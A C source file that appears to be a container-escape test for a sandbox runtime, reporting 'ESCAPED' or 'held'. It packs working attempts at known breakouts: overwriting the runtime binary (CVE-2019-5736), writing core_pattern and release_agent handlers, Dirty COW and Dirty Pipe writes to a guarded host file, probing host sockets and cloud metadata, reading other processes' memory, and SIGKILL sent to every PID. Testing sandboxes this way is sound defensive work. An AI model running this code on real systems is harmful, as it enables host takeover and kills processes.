// What broke other runtimes, as far as it can be tried here: known DIRECTORY, with a file of the host's in it that only
// its owner may write ("guarded"). Each attempt says what it got; an observer on the host looks at what became of it.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char guarded[4096];

static void escaped(const char *how) {
  printf("ESCAPED: %s\n", how);
  fflush(stdout);
}

static void put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_TRUNC);
  if (fd >= 0 && write(fd, text, strlen(text)) < 0) errno = 0;
  close(fd);
}

/** CVE-2019-5736: the runtime's own program, by way of /proc/PID/exe, written over when it is not running any more. */
static void own_executable(void) {
  for (int pid = 0; pid < 50; pid++) {
    char name[64], again[64];
    snprintf(name, sizeof name, pid ? "/proc/%d/exe" : "/proc/self/exe", pid);
    int path = open(name, O_PATH);
    snprintf(again, sizeof again, "/proc/self/fd/%d", path);
    for (int i = 0; i < 20 && path >= 0; i++) {
      int fd = open(again, O_WRONLY | (i & 1 ? O_TRUNC : O_APPEND));
      if (fd < 0) continue;
      if (write(fd, "#!/bin/false\n", 13) < 0) errno = 0;
      close(fd);
    }
    close(path);
  }
  // A program that is a script of the runtime's, or a link to it.
  FILE *script = fopen("/tmp/script", "w");
  if (script) {
    fprintf(script, "#!/proc/self/exe\n");
    fclose(script);
    chmod("/tmp/script", 0755);
    pid_t child = fork();
    if (!child) {
      alarm(2);
      execl("/tmp/script", "script", (char *)0);
      _exit(0);
    }
    waitpid(child, NULL, 0);
  }
}

/** CVE-2024-21626 and its kin: descriptors that the runtime left open, as working directory or to walk from. */
static void leaked_descriptors(void) {
  for (int fd = 3; fd < 256; fd++) {
    struct stat status;
    char name[64];
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    if (fstat(fd, &status) == 0) printf("descriptor %d was left open\n", fd);
    if (chdir(name) == 0) escaped("a working directory by a descriptor that nobody opened");
  }
}

/** CVE-2025-31133 and -52881, CVE-2022-0492: what is written to the kernel by names that should be masked. */
static void kernel_files(void) {
  static const char *const files[] = {
      "/proc/sys/kernel/core_pattern",    "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
      "/proc/sys/kernel/hotplug",         "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent",
      "/proc/sys/fs/binfmt_misc/register"};
  mkdir("/tmp/cgroup", 0755);
  mount("cgroup", "/tmp/cgroup", "cgroup", 0, "rdma");
  mount("cgroup2", "/tmp/cgroup", "cgroup2", 0, NULL);
  put("/tmp/cgroup/release_agent", "/tmp/escape");
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) put(files[i], "|/tmp/cloister-escape");
  static const char *const attributes[] = {"exec", "fscreate", "keycreate", "current"};
  for (size_t i = 0; i < sizeof attributes / sizeof *attributes; i++) {
    char name[64];
    snprintf(name, sizeof name, "/proc/self/attr/%s", attributes[i]);
    put(name, "b");
  }
}

/** CVE-2022-0185: parameters of a file system whose lengths add up to more than a page. */
static void long_parameters(void) {
  static const char *const types[] = {"ext4", "cgroup2", "tmpfs", "overlay", "9p", "vfat"};
  char text[256];
  memset(text, 'A', sizeof text - 1);
  text[sizeof text - 1] = 0;
  for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
    int fd = syscall(SYS_fsopen, types[i], 0);
    for (int k = 0; k < 100 && fd >= 0; k++) syscall(SYS_fsconfig, fd, FSCONFIG_SET_STRING, "\0", text, 0);
    for (int k = 0; k < 100 && fd >= 0; k++) syscall(SYS_fsconfig, fd, FSCONFIG_SET_STRING, "source", text, 0);
    close(fd);
  }
}

static volatile int stop;
static char *mapping;

static void *advise(void *unused) {
  while (!stop) madvise(mapping, 4096, MADV_DONTNEED);
  return unused;
}

/** CVE-2016-5195, Dirty COW: a private mapping written through /proc/self/mem while its page is thrown away. */
static void dirty_cow(void) {
  int fd = open(guarded, O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
  mapping = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  if (mapping == MAP_FAILED) return;
  pthread_t thread;
  if (pthread_create(&thread, NULL, advise, NULL)) return;
  for (int i = 0; i < 20000; i++)
    if (pwrite(mem, "DIRTY COW", 9, (off_t)(long)mapping) < 0 && i > 1000) break;
  stop = 1;
  pthread_join(thread, NULL);
  close(fd);
  close(mem);
}

/** CVE-2022-0847, Dirty Pipe: a page of a file in a pipe that is written to as if it were the pipe's own. */
static void dirty_pipe(void) {
  static char page[4096];
  for (int round = 0; round < 50; round++) {
    int fd = open(guarded, O_RDONLY), fds[2];
    if (pipe(fds)) return;
    int size = fcntl(fds[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= sizeof page)
      if (write(fds[1], page, sizeof page) < 0) break;
    for (int left = size; left > 0; left -= sizeof page)
      if (read(fds[0], page, sizeof page) < 0) break;
    loff_t offset = round % 2;
    if (splice(fd, &offset, fds[1], NULL, 1, 0) == 1 && write(fds[1], "DIRTY PIPE", 10) < 0) errno = 0;
    if (tee(fds[0], fds[1], 1, 0) < 0 || vmsplice(fds[1], &(struct iovec){page, 10}, 1, SPLICE_F_GIFT) < 0) errno = 0;
    close(fds[0]);
    close(fds[1]);
    close(fd);
  }
}

/** CVE-2020-15257 and others: sockets of the host, by abstract names and by what /proc/net says; a cloud's metadata. */
static void sockets(void) {
  char line[512];
  FILE *list = fopen("/proc/net/unix", "r");
  while (list && fgets(line, sizeof line, list)) {
    char *at = strchr(line, '@');
    if (at) escaped(line);
    if (strstr(line, "docker.sock") || strstr(line, "containerd") || strstr(line, "systemd")) escaped(line);
  }
  static const char *const names[] = {"/containerd-shim/moby", "/tmp/.X11-unix/X0", "/run/dbus", "/org/kernel/udev"};
  for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strcpy(address.sun_path + 1, names[i]);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(fd, (void *)&address, sizeof(sa_family_t) + 1 + strlen(names[i])) == 0) escaped(names[i]);
    close(fd);
  }
  struct sockaddr_in metadata = {.sin_family = AF_INET, .sin_port = htons(80)};
  inet_pton(AF_INET, "169.254.169.254", &metadata.sin_addr);
  struct sockaddr_in6 metadata6 = {.sin6_family = AF_INET6, .sin6_port = htons(80)};
  inet_pton(AF_INET6, "fd00:ec2::254", &metadata6.sin6_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0), fd6 = socket(AF_INET6, SOCK_STREAM, 0);
  int error = connect(fd, (void *)&metadata, sizeof metadata) ? errno : 0;
  int error6 = connect(fd6, (void *)&metadata6, sizeof metadata6) ? errno : 0;
  printf("metadata: %s %s\n", strerrorname_np(error), strerrorname_np(error6));
  static const int families[] = {AF_PACKET, AF_VSOCK, AF_ALG, AF_BLUETOOTH, AF_XDP, AF_TIPC, AF_KCM};
  for (size_t i = 0; i < sizeof families / sizeof *families; i++)
    if (socket(families[i], SOCK_RAW, 0) >= 0 || socket(families[i], SOCK_SEQPACKET, 0) >= 0)
      printf("a socket of family %d\n", families[i]);
}

/** Signals, tracing and memory of whatever process of the host has a number. */
static void processes(void) {
  for (pid_t pid = 2; pid < 70000; pid++) {
    if (pid == getpid() || pid == getppid()) continue;
    if (kill(pid, 0) == 0) printf("process %d\n", pid);
    else if (errno == EPERM) escaped("a process of somebody else's");
    kill(pid, SIGKILL);
  }
  char byte;
  struct iovec local = {&byte, 1}, remote = {(void *)0x7fff00000000, 1};
  for (pid_t pid = 1; pid < 3000; pid++) {
    if (pid == getpid() || pid == getppid()) continue;
    if (syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0) == 1) escaped("memory of another process");
  }
}

int main(int argc, char **argv) {
  // Started by itself, as the interpreter of a script.
  if (argc != 2 || getenv("AGAIN")) return 2;
  setenv("AGAIN", "1", 1);
  snprintf(guarded, sizeof guarded, "%s/guarded", argv[1]);
  leaked_descriptors();
  own_executable();
  kernel_files();
  long_parameters();
  dirty_cow();
  dirty_pipe();
  sockets();
  processes();
  puts("held");
  return 0;
}
